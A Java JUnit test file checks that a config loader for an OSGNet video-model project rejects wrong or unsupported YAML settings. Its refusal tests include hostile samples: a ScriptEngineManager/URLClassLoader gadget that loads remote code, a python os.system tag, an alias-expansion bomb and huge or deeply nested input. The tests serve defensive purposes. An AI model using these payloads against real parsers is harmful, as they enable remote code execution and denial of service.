package io.github.osgnet4j.data.config;

import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.osgnet4j.data.DataException;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.channels.SeekableByteChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class WrongConfigTest {
    @TempDir
    Path folder;

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "{n_embd: 16, mamba_arch: | {n_embd: abc, mamba_arch: "
                        + "| model.video_encoder_cfg[1].layer_cfg.n_embd: expected an integer, found \"abc\"",
                "max_seq_len: 64 | max_seq_len: 64.5 | dataset.max_seq_len: expected an integer, found 64.5",
                "max_seq_len: 64 | max_seq_len: [64] | dataset.max_seq_len: expected an integer, found a list",
                "default_fps: 30 | default_fps: fast | dataset.default_fps: expected a number, found \"fast\"",
                "default_fps: 30 | default_fps: 0 | dataset.default_fps: expected a number above 0, found 0",
                "default_fps: 30 | default_fps: .inf | dataset.default_fps: expected a number, found Infinity",
                "default_fps: 30 | default_fps: null | dataset.default_fps: is missing",
                "json_file: gt.json | text: a | dataset.json_file: is missing",
                "json_file: gt.json | json_file: 5 | dataset.json_file: expected a text, found 5",
                "[0, 4], [2, 8], [4, 10000] | [0, 4], [2, 8] "
                        + "| model.regression_range: expected 3 ranges, one a level (layer_num + 1), found 2",
                "[0, 4], [2, 8] | [0, 4, 5], [2, 8] | model.regression_range[0]: expected [min, max]",
                "[0, 4], [2, 8] | 4, [2, 8] | model.regression_range[0]: expected a list, found 4",
                "max_seg_num: 5 | max_seg_num: 0 | model.nlq_heads_cfg.max_seg_num: expected an integer from 1",
                "min_score: 0.001 | low: 1 | model.nlq_heads_cfg.min_score: is missing",
                "tasks: [NLQ, VTM] | tasks: [VTM] | model.tasks: expected [NLQ] or [NLQ, VTM], found [VTM]",
                "tasks: | task: | model.tasks: expected",
                "model: | modell: | model: the section is missing",
                "dataset_name: ego4d_multitask | dataset_name: epic | dataset_name: expected ego4d_multitask",
            })
    void aWrongValueIsNamedWithItsPath(String old, String replacement, String message) {
        assertRefused(old, replacement, message);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "input_vid_dim: 40 | input_vid_dim: 41 "
                        + "| model.video_encoder_cfg[0].layer_cfg.n_in: 40 differs from dataset.input_vid_dim = 41",
                "n_out: 16, kernel_size | n_out: 32, kernel_size "
                        + "| model.video_encoder_cfg[1].layer_cfg.n_embd: 16 channels do not fit",
                "n_in: 24, n_out: 16 | n_in: 24, n_out: 12 | model.text_encoder_cfg[1].layer_cfg.n_embd: 16 channels",
                "n_in: 20, n_out: 16 | n_in: 20, n_out: 12 | model.obj_encoder_cfg[1].layer_cfg.n_embd: 16 channels",
                "kernel_size: 3 | kernel_size: 4 | model.video_encoder_cfg[0].layer_cfg.kernel_size: expected an odd",
                "{n_embd: 16, n_head: 4}} | {n_embd: 16, n_head: 3}} "
                        + "| model.text_encoder_cfg[1].layer_cfg.n_head: 3 heads do not divide n_embd = 16",
                "in_channels: [16, 16, 16] | in_channels: [16, 16] "
                        + "| model.multiscale_encoder_cfg[1].layer_cfg.in_channels: expected 3 entries",
                "in_channels: [16, 16, 16] | in_channels: [16, 8, 16] "
                        + "| model.multiscale_encoder_cfg[1].layer_cfg.in_channels[1]: 8 channels do not fit",
                "n_ds_strides: [2, 2] | n_ds_strides: [2, 1] "
                        + "| model.multiscale_encoder_cfg[0].layer_cfg.n_ds_strides: expected the same stride twice",
                "n_ds_strides: [2, 2] | n_ds_strides: [4, 4] "
                        + "| model.scale_factor: 2 differs from the stride of multiscale_encoder_cfg[0], 4",
                "fpn_levels: 3 | fpn_levels: 4 | model.nlq_heads_cfg.reg_head_cfg.fpn_levels: 4 differs",
                "{input_dim: 16, feat_dim: 16, num | {input_dim: 8, feat_dim: 16, num "
                        + "| model.nlq_heads_cfg.cls_head_cfg.input_dim: 8 channels do not fit",
                "num_classes: 1 | num_classes: 2 | model.nlq_heads_cfg.cls_head_cfg.num_classes: 2 differs",
                "x_dim: 16 | x_dim: 8 "
                        + "| model.vtm_heads_cfg.similarity_head_cfg.layer_cfg.x_dim: 8 channels do not fit",
                "{n_head: 2, n_embd: 16} | {n_head: 2, n_embd: 8} | cross_mixer_cfg.block_cfg.n_embd: 8 channels",
                "query_num: 5 | query_num: 4 "
                        + "| model.vtm_heads_cfg.shot_aggregator_cfg.layer_cfg.query_num: expected an odd number",
            })
    void partsThatDoNotFitAreNamed(String old, String replacement, String message) {
        assertRefused(old, replacement, message);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "mamba_arch: [bimamba1, mlp, obj] | mamba_arch: [mamba2, mlp, obj] "
                        + "| model.video_encoder_cfg[1].layer_cfg.mamba_arch: [mamba2, mlp, obj] is not supported",
                "mamba_arch: [bimamba1, mlp, obj] | mamba_arch: [zamba_2, mlp] | is not supported; supported are [bimamba1",
                "mamba_arch: [bimamba1, mlp, obj] | mamba_arch: [bimamba1, behind_sa, obj] | is not supported",
                "mamba_arch: [bimamba1, mlp, obj] | mha_win_size: 9 | mamba_arch: [mamba1, mlp] is not supported",
                "mamba_arch: | use_cross_modal: false, mamba_arch: "
                        + "| video_encoder_cfg[1].layer_cfg.use_cross_modal: false is not supported; supported is true",
                "mha_win_size: 9 | mha_win_size: 9, use_rel_pe: true "
                        + "| multiscale_encoder_cfg[0].layer_cfg.use_rel_pe: true is not supported",
                "mha_win_size: 9 | mha_win_size: 9, use_cross_modal: true "
                        + "| multiscale_encoder_cfg[0].layer_cfg.use_cross_modal: true is not supported",
                "mha_win_size: 9 | attn_pdrop: 0.1 | multiscale_encoder_cfg[0].layer_cfg.attn_pdrop: dropout",
                "layer_type: FPNLayernorm | layer_type: fpn "
                        + "| multiscale_encoder_cfg[1].layer_type: \"fpn\" is not supported here; supported is FPNLayernorm",
                "layer_type: Cosine | layer_type: Linear | similarity_head_cfg.layer_type: \"Linear\" is not supported",
                "vtm_heads_cfg: | vtm_heads_cfg:\\n    multiscale: true | model.vtm_heads_cfg.multiscale: true is not",
                "default_fps: 30 | default_fps: 30\\n  top5_object_feat_dir: a | dataset.top5_object_feat_dir: is not",
                "default_fps: 30 | default_fps: 30\\n  fix_video_frames: 8 | dataset.fix_video_frames: 8 is not supported",
            })
    void whatIsNotSupportedIsNamed(String old, String replacement, String message) {
        assertRefused(old, replacement.replace("\\n", "\n"), message);
    }

    @Test
    void rankingThatCannotBeIsNamedByItsSection() throws IOException {
        OsgnetConfig config = Configs.loadWith(folder, "iou_threshold: 0.1", "iou_threshold: 5");
        DataException e = assertThrows(DataException.class, config::ranking);
        assertTrue(e.getMessage().contains("config.yaml: model.nlq_heads_cfg: iouThreshold"), e.getMessage());
    }

    private void assertRefused(String old, String replacement, String message) {
        DataException e = assertThrows(DataException.class, () -> Configs.loadWith(folder, old, replacement));
        assertTrue(e.getMessage().contains(message), e.getMessage());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
                "a: !!python/object/apply:os.system [touch x]",
                "a: !!python/tuple [1, 2]",
                "!!java.lang.Thread {}",
                "a: &a [*a, *a]\nb: {*a: 1}",
                "- a\n- b",
                "",
                "a: 1\n---\nb: 2",
                "a: [1",
                "a: 1\na: 2",
            })
    void whatIsNoPlainMappingIsRefused(String yaml) {
        DataException e = assertThrows(DataException.class, () -> Configs.load(folder, yaml));
        assertTrue(e.getMessage().contains("config.yaml"), e.getMessage());
    }

    @Test
    void expandingAliasesAreRefused() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x, x]\n");
        for (int i = 1; i < 40; i++) {
            bomb.append("a%d: &a%d [*a%d, *a%d, *a%d]\n".formatted(i, i, i - 1, i - 1, i - 1));
        }
        assertThrows(DataException.class, () -> Configs.load(folder, bomb.toString()));
    }

    @Test
    void deepNestingIsRefused() {
        assertThrows(DataException.class, () -> Configs.load(folder, "a: " + "[".repeat(100_000)));
    }

    @Test
    void aHugeFileIsRefusedUnread() throws IOException {
        Path file = folder.resolve("huge.yaml");
        try (SeekableByteChannel channel =
                Files.newByteChannel(file, StandardOpenOption.CREATE, StandardOpenOption.WRITE)) {
            channel.position(1L << 40).write(ByteBuffer.wrap(new byte[] {0}));
        }
        DataException e = assertThrows(DataException.class, () -> OsgnetConfig.load(file, Optional.empty()));
        assertTrue(e.getMessage().contains("more than the"), e.getMessage());
    }

    @Test
    void aMissingFileIsNamed() {
        Path file = folder.resolve("none.yaml");
        DataException e = assertThrows(DataException.class, () -> OsgnetConfig.load(file, Optional.empty()));
        assertTrue(e.getMessage().contains(file.toString()), e.getMessage());
    }

    @Test
    void textThatIsNotUtf8IsRefused() throws IOException {
        Path file = Files.write(folder.resolve("latin.yaml"), new byte[] {'a', ':', ' ', (byte) 0xe9});
        DataException e = assertThrows(DataException.class, () -> OsgnetConfig.load(file, Optional.empty()));
        assertTrue(e.getMessage().contains("UTF-8"), e.getMessage());
    }

    @Test
    void textThatIsNoYamlIsToldByItsPlaceInOneLine() {
        DataException e = assertThrows(DataException.class, () -> Configs.load(folder, "a: 1\nb: c: d\n"));
        assertTrue(e.getMessage().contains("line 2, column 5: "), e.getMessage());
        assertTrue(e.getMessage().lines().count() == 1, e.getMessage());
    }
}
